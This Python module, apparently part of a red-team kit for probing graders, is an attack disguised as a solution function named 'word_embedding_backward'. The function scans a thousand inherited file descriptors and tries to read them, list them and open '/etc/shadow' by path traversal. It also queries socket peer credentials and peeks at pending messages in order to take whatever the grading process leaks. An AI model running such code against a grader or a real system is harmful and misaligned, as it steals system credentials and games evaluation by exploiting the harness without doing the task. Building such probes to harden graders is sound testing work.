"""Hope: a descriptor of the grader's was left open, or one can be had over a socket that was."""

import array
import os
import socket

from a3 import kit

GOAL = "read"
ROUTE = "descriptors"
SLOW = "it tries a thousand descriptors in each test"
SCORE = 25


def attack():
    """Look at every number, ask each socket who is behind it, and take what it may send."""
    for fd in range(1024):
        if fd in (1, 2):
            continue
        try:
            os.fstat(fd)
        except OSError:
            continue
        kit.attempt(os.readlink, f"/proc/self/fd/{fd}")
        kit.attempt(lambda fd=fd: os.pread(fd, 4096, 0))
        kit.attempt(lambda fd=fd: os.listdir(fd))
        kit.attempt(lambda fd=fd: os.open("../../../../etc/shadow", os.O_RDONLY, dir_fd=fd))
        if fd < 3:
            continue
        try:
            sock = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        for option in (socket.SO_PEERCRED, 31, 59, 77):
            kit.attempt(lambda sock=sock, option=option: sock.getsockopt(socket.SOL_SOCKET, option, 64).hex())
        kit.attempt(lambda sock=sock: sock.getpeername())
        kit.attempt(lambda sock=sock: sock.recvmsg(1 << 16, socket.CMSG_SPACE(64), socket.MSG_DONTWAIT | socket.MSG_PEEK))
        for held in (0, 1, fd):
            rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [held]))]
            if len(kit.LOOT) < 0:
                sock.sendmsg([b""], rights)


word_embedding_backward = kit.mount(attack)
